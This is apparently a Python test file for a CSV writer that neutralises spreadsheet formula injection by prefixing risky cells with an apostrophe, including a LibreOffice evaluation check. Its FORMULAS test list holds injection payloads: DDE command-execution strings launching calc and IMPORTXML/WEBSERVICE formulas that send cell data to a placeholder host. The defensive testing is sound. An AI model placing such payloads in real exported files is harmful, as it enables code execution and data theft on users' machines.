"""No cell of a CSV file of ours is a formula, and every text can be had back exactly."""

from __future__ import annotations

import ast
import csv
import io
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree as ET

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from personae.config import Options
from personae.data.csv_file import (
    csv_files,
    guard_findings,
    guarded,
    read_own_csv,
    to_csv,
    unguarded,
)
from personae.data.reading.read import open_source

PACKAGE = Path(__file__).parents[2] / "src/personae"
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
# every rule of the guard meets every other in texts of these
TEXTS = st.text(alphabet="=+-@\uff1d'\t\r\n;, \x00\u200b\ufeffa1\"", max_size=12) | st.text()

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1",
    "\u200b=1+1", "\x00=1+1", "\uff1d1+1", "'=1+1", "''=1+1", "a;=1+1", "a\n=1+1", "a\t=1+1",
    'a";=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","more")',
    '=IMPORTXML(CONCAT("http://x.example?",A1),"//a")', "-2+3+cmd|' /C calc'!A0", "+49 30 1234",
    '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("http://x.example")', "-3.5", "@home", "-",
    "=", "+", "@",
]  # fmt: skip


@given(TEXTS)
@example("\t=1")
@example(" \t=1")
@example(";';=1")
def test_what_is_guarded_comes_back_and_begins_no_formula(text: str) -> None:
    safe = guarded(text)
    assert unguarded(safe) == text
    parts = [safe]
    for divider in ";\t\r\n":
        parts = [piece for part in parts for piece in part.split(divider)]
    for part in parts:
        begins = part.lstrip("".join(map(chr, range(33))) + "\x7f\xa0\u200b\ufeff\u3000")
        assert not begins.startswith(tuple(SIGNS)), safe
    assert not safe.startswith(("\t", "\r", "\n"))


@settings(deadline=None)  # the first one loads Arrow
@given(st.lists(st.none() | TEXTS.filter(lambda text: "\r" not in text), min_size=1))
def test_a_file_says_as_much_as_its_table(texts: list[str | None]) -> None:
    table = pa.table({"line": range(len(texts)), "label": pa.array(texts, pa.string())})
    content, counts = csv_files({"list.csv": table})
    again = read_own_csv(content["list.csv"], {"label": pa.string()})
    # an empty text and no text are the same in a CSV file
    assert [text or None for text in again["label"].to_pylist()] == [text or None for text in texts]
    changed = sum(text is not None and guarded(text) != text for text in texts)
    assert counts == ({"list.csv": changed} if changed else {})
    cells = [row[1] for row in csv.reader(io.StringIO(content["list.csv"].decode(), newline=""))]
    assert cells[1:] == [guarded(text or "") for text in texts]


def test_numbers_stay_numbers_and_names_of_columns_are_guarded() -> None:
    table = pa.table({"=sum": [-3.5], "whole": [-2], "code": ["-3.5"], "yes": [True]})
    assert to_csv(table).decode() == '"\'=sum","whole","code","yes"\n-3.5,-2,"\'-3.5",true\n'
    assert to_csv(table, exact=True).decode().splitlines()[1] == '-3.5,-2,"-3.5",true'


def test_dictionaries_are_guarded_too() -> None:
    table = pa.table({"x": pa.array(["=1", "b", "=1"]).dictionary_encode()})
    assert to_csv(table).decode() == '"x"\n"\'=1"\n"b"\n"\'=1"\n'


def test_the_message_says_how_many_and_what_to_do() -> None:
    [finding] = guard_findings({"b.csv": 1, "a.csv": 2})
    assert finding.what == (
        "Texts in a.csv, b.csv begin with =, +, - or @, which a spreadsheet would carry out as a "
        "formula: 3 cells have an apostrophe before it. Personae reads these lists as if the "
        "apostrophe were not there. For other programs take the list as a Parquet file."
    )
    assert "formula: 1 cell has an apostrophe" in guard_findings({"a.csv": 1})[0].what
    assert guard_findings({}) == []


@pytest.mark.parametrize("names", [("id", "segment"), ("Id", "arm"), ("id", "from", "to")])
def test_a_list_of_ours_is_read_as_it_was(tmp_path: Path, names: tuple[str, ...]) -> None:
    texts = [text for text in FORMULAS if not set(text) & {"\x00", "\r"}]
    columns = {name: pa.array(["1"] * len(texts)) for name in names} | {names[0]: pa.array(texts)}
    (tmp_path / "list.csv").write_bytes(to_csv(pa.table(columns)))
    source = open_source(tmp_path / "list.csv", Options())
    physical = source.column(names[0]).physical
    rows = source.engine.rows(f"SELECT {physical} FROM {source.relation} ORDER BY line")
    assert [text for (text,) in rows] == texts
    [stated] = [item for item in source.stated if item.what == "guarded cells"]
    assert stated.value == str(len(texts))
    source.engine.close()


def test_an_apostrophe_in_somebody_elses_table_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "list.csv").write_text("id,visits\n'=1,2\n'-5,3\n")
    source = open_source(tmp_path / "list.csv", Options())
    rows = source.engine.rows(f"SELECT c0 FROM {source.relation} ORDER BY line")
    assert rows == [("'=1",), ("'-5",)]
    source.engine.close()


def test_a_spreadsheet_finds_no_formula(tmp_path: Path) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (soffice)")
    texts = [text.replace("\x00", "") for text in FORMULAS]
    tables = {
        "guarded.csv": to_csv(pa.table({"=name": texts, "number": [-3.5] * len(texts)})),
        "bare.csv": to_csv(pa.table({"name": texts}), exact=True),
    }
    for name, content in tables.items():
        (tmp_path / name).write_bytes(content)
    # divided at commas and at semicolons, as in countries with a decimal comma
    for separator in (44, 59):
        found = _formulas(office, tmp_path, separator)
        assert found["guarded"] == 0, separator
        assert found["bare"] > 5, separator


def _formulas(office: str, folder: Path, separator: int) -> dict[str, int]:
    """Return how many cells LibreOffice takes for formulas; it is told to evaluate them."""
    out, profile = folder / f"{separator}", folder / "profile"
    subprocess.run(
        [office, f"-env:UserInstallation={profile.as_uri()}", "--headless",
         f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true",
         "--convert-to", "fods", "--outdir", str(out),
         *map(str, folder.glob("*.csv"))],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    name = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"
    return {
        path.stem: sum(name in cell.attrib for cell in ET.parse(path).iter())
        for path in out.glob("*.fods")
    }


def test_nothing_else_writes_csv() -> None:
    """One function guards; a second writer would be a way around it."""
    wrong = []
    for path in sorted(PACKAGE.rglob("*.py")):
        place = path.relative_to(PACKAGE).as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            writes = called.split(".")[-1] in {"write_csv", "CSVWriter", "DictWriter"}
            writes |= called in {"csv.writer", "writer"}
            writes |= called.endswith((".to_csv", "savetxt"))
            if writes and place != "data/csv_file.py":
                wrong.append(f"{place}:{node.lineno} calls {called}")
            exact = called.endswith("to_csv") and any(word.arg == "exact" for word in node.keywords)
            # what is uploaded to a platform stands beside a copy that is guarded
            if exact and place != "workflow/campaign_uploads.py":
                wrong.append(f"{place}:{node.lineno} leaves out the guard")
    assert wrong == []
